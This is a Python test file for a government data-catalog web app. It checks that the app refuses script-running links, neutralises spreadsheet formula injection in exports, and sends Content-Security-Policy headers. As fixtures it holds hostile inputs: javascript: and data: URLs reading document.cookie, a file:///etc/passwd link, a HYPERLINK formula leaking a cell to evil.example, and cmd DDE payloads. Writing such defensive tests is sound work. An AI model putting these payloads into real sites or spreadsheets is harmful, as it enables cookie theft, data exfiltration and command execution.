"""Input that becomes output: a link that runs script, a page without a Content-Security-Policy, a cell that
a spreadsheet runs as a formula.

Each test is one attack: what the attacker enters, and what the site now answers or writes.
"""

from __future__ import annotations

import csv
import json
import re
import zipfile
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook
from sqlmodel import select

from catalog.models import Dataset, Resource, ResourceKind
from dictionaries.excel import export_xlsx, import_xlsx
from dictionaries.model import Dictionary
from services.web.site import create_site
from tests.conftest import OpenContext
from tests.security.conftest import ORG_A, TokenFor
from tests.services.test_cli import banchi

PUBLIC_A = "city-development-indicators"  # a public dataset of A
SECRETARY = "steward.hrd@bangkok.go.th"  # a person of A on record, secretary of its working group
SCRIPT_LINKS = ["javascript:alert(1)", "JavaScript:alert(document.cookie)", "data:text/html,<script>alert(1)</script>",
                "vbscript:msgbox(1)", "java\tscript:alert(1)", " javascript:alert(1)", "file:///etc/passwd",
                "https:/\\evil.example", "//evil.example/x"]


def _assert_url_refused(response: object, field: str) -> None:
    assert response.status_code == 422, response.text  # type: ignore[attr-defined]
    errors = {e["field"]: e for e in response.json()["errors"]}  # type: ignore[attr-defined]
    assert field in errors, errors
    assert errors[field]["code"] == "invalid_url"
    assert "http://" in errors[field]["th"] and "http://" in errors[field]["en"]
    assert errors[field]["th"] != errors[field]["en"]


@pytest.mark.parametrize("link", SCRIPT_LINKS)
def test_a_resource_link_that_runs_script_is_refused(client: TestClient, token_for: TokenFor, link: str) -> None:
    steward = token_for("steward@bangkok.go.th", "steward", org=ORG_A)
    response = client.post(f"/api/datasets/{PUBLIC_A}/resources", headers=steward,
                           json={"name": "ลิงก์", "url": link, "format": "CSV"})
    _assert_url_refused(response, "url")
    made = client.post(f"/api/datasets/{PUBLIC_A}/resources", headers=steward,
                       json={"name": "ลิงก์", "url": "https://data.bangkok.go.th/x.csv", "format": "CSV"})
    assert made.status_code == 201
    edited = client.patch(f"/api/resources/{made.json()['id']}", headers={**steward, "If-Match": '"1"'},
                          json={"url": link})
    _assert_url_refused(edited, "url")


def test_an_evidence_link_that_runs_script_is_refused(client: TestClient, token_for: TokenFor) -> None:
    steward = token_for(SECRETARY, "steward", org=ORG_A)
    body = {"organization": ORG_A, "evidence_date": "2021-01-10", "description": "หลักฐาน", "stage": 1,
            "url": "data:text/html,<script>alert(1)</script>"}
    _assert_url_refused(client.post("/api/evidence", json=body, headers=steward), "url")


def test_meeting_minutes_at_a_script_link_are_refused(client: TestClient, token_for: TokenFor) -> None:
    secretary = token_for(SECRETARY, "steward", org=ORG_A)
    response = client.post("/api/meetings", headers=secretary, json={
        "organization": ORG_A, "meeting_date": "2021-05-01", "title": "ครั้งที่ 3/2564",
        "minutes_url": "javascript:alert(1)"})
    _assert_url_refused(response, "minutes_url")


def test_an_organization_website_that_runs_script_is_refused(client: TestClient, token_for: TokenFor) -> None:
    admin = token_for("admin@bangkok.go.th", "admin", org=ORG_A)
    version = client.get(f"/api/organizations/{ORG_A}").headers["etag"]
    response = client.patch(f"/api/organizations/{ORG_A}", headers={**admin, "If-Match": version},
                            json={"url": "javascript:alert(1)"})
    _assert_url_refused(response, "url")


def test_a_script_link_stored_before_the_checks_is_not_rendered_as_a_link(
    client: TestClient, open_ctx: OpenContext,
) -> None:
    """Links kept before the checks existed (or harvested) are shown as inert ``#`` links."""
    with open_ctx() as ctx:
        dataset = ctx.session.exec(select(Dataset).where(Dataset.name == PUBLIC_A)).one()
        resource = ctx.session.exec(select(Resource).where(Resource.dataset_id == dataset.id,
                                                           Resource.kind == ResourceKind.url)).first()
        if resource is None:
            pytest.fail("the demo's public dataset has a link resource")
        resource.url = "javascript:alert(1)"
        ctx.session.add(resource)
        resource_id = resource.id
    for path in (f"/dataset/{PUBLIC_A}", f"/dataset/{PUBLIC_A}/resource/{resource_id}"):
        page = client.get(path)
        assert page.status_code == 200
        links = re.findall(r'href="([^"]*)"', page.text)
        schemes = {found.group(1).lower() for link in links
                   if (found := re.match(r"\s*([a-z][a-z0-9+.-]*):", link, re.I))}
        assert schemes <= {"http", "https", "mailto"} and "#" in links  # mailto: from checked emails


# -- spreadsheets: text that a spreadsheet would run ----------------------------------------------------

FORMULA_TITLE = '=HYPERLINK("https://evil.example/?leak="&A1,"เปิด")'
FORMULA_NOTES = "@SUM(1+1)*cmd|' /C calc'!A0"


def _formula_cells(path: Path) -> list[str]:
    """The workbook's sheets holding a formula element (none may come from people's text)."""
    with zipfile.ZipFile(path) as archive:
        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/sheet")]
        return [name for name in sheets if re.search(rb"<f[ >]", archive.read(name))]


def _retitle_with_formulas(client: TestClient, token_for: TokenFor) -> None:
    steward = token_for("steward@bangkok.go.th", "steward", org=ORG_A)
    edited = client.patch(f"/api/datasets/{PUBLIC_A}", headers={**steward, "If-Match": "*"},
                          json={"title": FORMULA_TITLE, "notes": FORMULA_NOTES})
    assert edited.status_code == 200, edited.text


@pytest.mark.parametrize("layout", ["template", "gdc-export"])
def test_a_formula_title_is_text_in_the_catalog_workbook(client: TestClient, token_for: TokenFor, tmp_path: Path,
                                                         layout: str) -> None:
    _retitle_with_formulas(client, token_for)
    path = tmp_path / "catalog.xlsx"
    code, _, err = banchi("catalog", "export", str(path), "--org", ORG_A, "--layout", layout)
    assert code == 0, err
    assert _formula_cells(path) == []
    cells = [cell for sheet in load_workbook(path).worksheets for row in sheet.iter_rows() for cell in row]
    titled = [cell for cell in cells if cell.value == FORMULA_TITLE]
    assert titled and all(cell.data_type == "s" and cell.quotePrefix for cell in titled)  # text, exactly as entered
    if layout == "template":  # and it reads back unchanged: importing the export changes nothing
        code, out, err = banchi("catalog", "import", str(path), "--dry-run", "--format", "json")
        assert code == 0, err + out
        assert json.loads(out)["datasets_updated"] == []


def test_a_formula_title_is_quoted_in_the_catalog_csv(client: TestClient, token_for: TokenFor, tmp_path: Path) -> None:
    _retitle_with_formulas(client, token_for)
    path = tmp_path / "catalog.csv"
    code, _, err = banchi("catalog", "export", str(path), "--org", ORG_A)
    assert code == 0, err
    with path.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    [row] = [r for r in rows if r["name"] == PUBLIC_A]
    assert row["title"] == "'" + FORMULA_TITLE and row["notes"] == "'" + FORMULA_NOTES
    assert row["version"].isdigit()  # numbers stay numbers
    for cell in (value for r in rows for value in r.values()):
        assert not cell.startswith(("=", "+", "@", "\t", "\r")) and not (cell.startswith("-") and not
                                                                         cell.lstrip("-").replace(".", "").isdigit())


def test_a_formula_narrative_or_title_is_text_in_the_xlsx_report(client: TestClient, token_for: TokenFor,
                                                                  tmp_path: Path) -> None:
    _retitle_with_formulas(client, token_for)
    admin = token_for("admin@bangkok.go.th", "admin", org=ORG_A)
    narrative = "=1+1"
    saved = client.put(f"/api/organizations/{ORG_A}/narratives/2564/1", headers={**admin, "If-Match": "*"},
                       json={"text": narrative})
    assert saved.status_code == 200, saved.text
    report = client.get(f"/api/organizations/{ORG_A}/report.xlsx", params={"fy": 2564}, headers=admin)
    assert report.status_code == 200
    path = tmp_path / "report.xlsx"
    path.write_bytes(report.content)
    assert _formula_cells(path) == []
    values = {cell.value for sheet in load_workbook(path).worksheets for row in sheet.iter_rows() for cell in row}
    assert narrative in values and FORMULA_TITLE in values


def test_a_formula_field_title_is_text_in_the_dictionary_workbook(tmp_path: Path) -> None:
    dictionary = Dictionary.from_table_schema({"fields": [
        {"name": "district", "title": "=cmd|' /C calc'!A0", "type": "string", "description": "+1+1"}]})
    path = export_xlsx(dictionary, tmp_path / "dictionary.xlsx")
    assert _formula_cells(path) == []
    read = import_xlsx(path)
    assert read.fields[0].title == "=cmd|' /C calc'!A0"


# -- what browsers may load and run for Banchi's pages ------------------------------------------------------

PAGES = ["/", "/dataset/", f"/dataset/{PUBLIC_A}", "/organization/", f"/organization/{ORG_A}", "/user/login"]


def _policy(header: str) -> dict[str, list[str]]:
    return {part.split()[0]: part.split()[1:] for part in header.split(";") if part.strip()}


def _no_inline_script(html: str) -> None:
    for attributes in re.findall(r"<script([^>]*)>", html):
        assert "src=" in attributes or "application/ld+json" in attributes, attributes  # JSON-LD is data
    assert not re.search(r"<[^>]+\son[a-z]+\s*=", html), "an inline event handler"
    assert "javascript:" not in re.sub(r'<script type="application/ld\+json">.*?</script>', "", html, flags=re.S)


@pytest.mark.parametrize("path", PAGES)
def test_pages_send_a_content_security_policy_without_inline_script(client: TestClient, path: str) -> None:
    page = client.get(path)
    assert page.status_code == 200 and page.headers["content-type"].startswith("text/html")
    policy = _policy(page.headers["content-security-policy"])
    assert policy["script-src"] == ["'self'"] and policy["object-src"] == ["'none'"]
    assert policy["frame-ancestors"] == ["'none'"] and policy["base-uri"] == ["'self'"]
    assert page.headers["x-content-type-options"] == "nosniff"
    assert page.headers["referrer-policy"] == "strict-origin-when-cross-origin"
    assert "strict-transport-security" not in page.headers  # plain http: HSTS means nothing here
    _no_inline_script(page.text)


@pytest.mark.usefixtures("two_orgs")
def test_behind_https_browsers_are_told_to_keep_to_https() -> None:
    page = TestClient(create_site(), base_url="https://banchi.example").get("/")
    assert page.headers["strict-transport-security"].startswith("max-age=31536000")


def test_an_uploaded_html_file_cannot_run_script_as_banchi(client: TestClient, token_for: TokenFor) -> None:
    steward = token_for("steward@bangkok.go.th", "steward", org=ORG_A)
    made = client.post(f"/api/datasets/{PUBLIC_A}/resources/upload", headers=steward,
                       files={"file": ("page.html", b"<script>alert(document.cookie)</script>", "text/html")})
    assert made.status_code == 201, made.text
    download = client.get(made.json()["url"].removeprefix("http://testserver"))
    assert download.status_code == 200
    assert "sandbox" in _policy(download.headers["content-security-policy"])
    assert download.headers["content-disposition"].startswith("attachment")
    assert download.headers["x-content-type-options"] == "nosniff"


@pytest.mark.parametrize("path", ["/docs", "/redoc"])
def test_the_api_docs_load_their_assets_from_banchi(client: TestClient, path: str) -> None:
    page = client.get(path)
    assert page.status_code == 200
    _no_inline_script(page.text)
    assert "script-src 'self'" in page.headers["content-security-policy"]
    assets = re.findall(r'(?:src|href)="([^"]+)"', page.text)
    assert assets and all(asset.startswith("/") and not asset.startswith("//") for asset in assets), assets
    for asset in assets:
        served = client.get(asset)
        assert served.status_code == 200 and len(served.content) > 100, asset
    assert "/openapi.json" in page.text


def test_the_printable_report_runs_no_script(client: TestClient, token_for: TokenFor) -> None:
    admin = token_for("admin@bangkok.go.th", "admin", org=ORG_A)
    report = client.get(f"/api/organizations/{ORG_A}/report.html", params={"fy": 2564}, headers=admin)
    assert report.status_code == 200
    policy = _policy(report.headers["content-security-policy"])
    assert policy["default-src"] == ["'none'"] and "script-src" not in policy
    assert policy["frame-ancestors"] == ["'none'"]
    _no_inline_script(report.text)
